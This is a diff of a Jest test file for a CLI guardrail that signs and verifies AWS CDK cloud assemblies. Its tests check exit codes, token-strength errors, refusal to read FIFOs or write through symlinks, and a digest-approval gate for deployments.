-    expect(lines.filter((l) => /^PASS /.test(l))).toHaveLength(15);
-    expect(lines).toContain('guardrail: all 15 checks passed');
+    expect(run.stdout.split('\n').filter((l) => /^PASS /.test(l))).toHaveLength(CHECK_IDS.length);
     const report = readJson(join(dir, 'guardrail-report.json'));
-    expect(report.ok).toBe(true);
-    expect(report.checks).toHaveLength(15);
+    expect(report).toMatchObject({ ok: true, release: RELEASE, signedWith: 'GUARDRAIL_TOKEN' });
     expect(JSON.stringify(report)).not.toContain(TOKEN);
-    // The report sits in the assembly but is not attested: a second verify still passes.
-    expect(verify(dir).ok).toBe(true);
   });
 
-  it('exits 1 on a tampered assembly, naming the file, and writes the report where --report says', () => {
+  it('exits 1 on a failed check, 2 on a usage error, 2 signing with a 5-character token', () => {
     const dir = copy();
-    const asset = firstDockerContext(dir);
-    writeFileSync(join(dir, asset.path, 'extra'), 'x');
-    const reportFile = join(tempDir('guardrail-report-'), 'nested', 'report.json');
-    const run = cli(['verify', dir, '--report', reportFile], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
+    writeFileSync(join(dir, firstDockerContext(dir).path, 'extra'), 'x');
+    const run = cli(['verify', dir, '--release', RELEASE, '--report', join(tempDir('guardrail-report-'), 'r.json')], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
     expect(run.status).toBe(1);
     expect(run.stdout).toMatch(/^FAIL digests: the assembly differs from what was signed \(1\)$/m);
-    expect(run.stdout).toContain(`added: ${asset.path}/extra`);
-    expect(run.stdout).toMatch(/checks did not pass: the release must stop/);
-    expect(readJson(reportFile).ok).toBe(false);
-    expect(existsSync(join(dir, 'guardrail-report.json'))).toBe(false);
+    expect(cli(['verify', dir], childEnv({ GUARDRAIL_TOKEN: TOKEN })).status).toBe(2); // no --release
+    const weak = cli(['sign', copy(), '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: 'ab-12' }));
+    expect(weak.status).toBe(2);
+    expect(weak.stderr).toMatch(/GUARDRAIL_TOKEN is too weak \(5 characters\): it needs 20 to 256 printable ASCII characters/);
   });
 
-  it('exits 1 without GUARDRAIL_TOKEN, even though cdk.json has a default', () => {
-    const run = cli(['verify', copy()], childEnv());
-    expect(run.status).toBe(1);
-    expect(run.stdout).toMatch(/^FAIL token: guardrail token missing: set GUARDRAIL_TOKEN$/m);
+  it('exits 2 without hanging on a FIFO in place of the attestation', () => {
+    const dir = copy();
+    unlinkSync(join(dir, ATTESTATION_FILE));
+    mkfifo(join(dir, ATTESTATION_FILE));
+    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/guardrail-attestation.json: is a FIFO, not a regular file: refusing to open it/);
   });
 
-  it('exits 2 on a usage error', () => {
-    expect(cli(['verify'], childEnv()).status).toBe(2);
-    expect(cli(['verify', tempDir('guardrail-empty-')], childEnv()).stderr).toMatch(/is not a cloud assembly/);
-    expect(cli(['frobnicate', copy()], childEnv()).status).toBe(2);
+  it('exits 2 without hanging on a FIFO in place of validation-report.json', () => {
+    const dir = copy();
+    unlinkSync(join(dir, 'validation-report.json'));
+    mkfifo(join(dir, 'validation-report.json'));
+    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/validation-report.json: is a FIFO: the guardrail refuses to read it/);
   });
 
-  it('makes cdk synth fail with a clear error on a malformed token, without printing it', () => {
-    const out = tempDir('guardrail-badsynth-');
-    const run = spawnSync(BIN('cdk'), ['synth', '-q', '**', '--no-notices', '-o', out], {
-      cwd: REPO,
-      env: childEnv({ GUARDRAIL_TOKEN: 'Bad_Secret_Value' }),
-      encoding: 'utf8',
-    });
-    expect(run.status).not.toBe(0);
-    expect(run.stderr).toMatch(/guardrail token from environment variable GUARDRAIL_TOKEN is malformed/);
-    expect(`${run.stdout}${run.stderr}`).not.toContain('Bad_Secret_Value');
-    expect(existsSync(join(out, ATTESTATION_FILE))).toBe(false);
+  it('never writes the report through a symlink: exits 2 and leaves the target untouched', () => {
+    const dir = copy();
+    const target = join(tempDir('guardrail-victim-'), 'precious.txt');
+    writeFileSync(target, 'precious\n');
+    const link = join(dir, 'guardrail-report.json');
+    symlinkSync(target, link);
+    const run = cli(['verify', dir, '--release', RELEASE], childEnv({ GUARDRAIL_TOKEN: TOKEN }));
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/guardrail-report.json is a symlink: refusing to write through or over it/);
+    expect(readFileSync(target, 'utf8')).toBe('precious\n');
+  });
+
+  it('gate: exits 1 printing the digest to approve, 0 once approved', () => {
+    const template = readJson(join(synthesized, 'Pipeline.template.json'));
+    const policy = Object.keys(template.Resources).find((id) => template.Resources[id].Type === 'AWS::IAM::Policy')!;
+    delete template.Resources[policy];
+    const file = join(tempDir('guardrail-gate-'), 'deployed.json');
+    writeFileSync(file, JSON.stringify(template));
+    const refused = cli(['gate', '--deployed', file, '--synthesized', synthesized], childEnv());
+    expect(refused.status).toBe(1);
+    expect(refused.stdout).toContain(`added: ${policy} (AWS::IAM::Policy)`);
+    const digest = /add its digest to the approved digests: ([0-9a-f]{64})/.exec(refused.stdout)?.[1];
+    expect(digest).toBeDefined();
+    const approved = cli(['gate', '--deployed', file, '--synthesized', synthesized, '--approved', `${'1'.repeat(64)},${digest}`], childEnv());
+    expect(approved.status).toBe(0);
+    expect(approved.stdout).toMatch(/^PASS gate: .* is approved/);
   });
 });
